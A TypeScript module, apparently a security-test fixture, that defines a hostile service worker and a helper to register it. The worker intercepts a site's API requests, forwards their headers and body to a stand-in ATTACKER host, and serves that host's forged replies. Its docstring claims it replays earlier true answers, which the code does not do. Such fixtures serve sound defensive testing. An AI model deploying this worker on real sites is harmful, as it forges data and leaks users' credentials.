import { ATTACKER } from '../../instance/attacker.ts'

/**
 * Source of a hostile page's service worker: it answers requests to the instance's API itself with another site's answers,
 * and keeps true answers to replay them for later requests.
 */
export const HOSTILE_WORKER = `
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()))
self.addEventListener('fetch', (event) => {
  const { pathname, search } = new URL(event.request.url)
  if (!pathname.startsWith('/api/') && pathname !== '/stats.do') return
  const forge = async () => {
    const { method, headers } = event.request
    const body = method === 'GET' ? undefined : await event.request.text()
    const answer = await fetch('${ATTACKER}' + pathname + search, { method, headers, body })
    return new Response(await answer.text(), { status: answer.status, headers: answer.headers })
  }
  event.respondWith(forge())
})
`

/** Runs in a page: registers the worker, and waits until it controls the page. */
export async function register(): Promise<boolean> {
  const { serviceWorker } = navigator
  const taken = new Promise((resolve) => serviceWorker.addEventListener('controllerchange', resolve, { once: true }))
  await serviceWorker.register('/sw.js')
  if (!serviceWorker.controller) await taken
  return serviceWorker.controller !== null
}
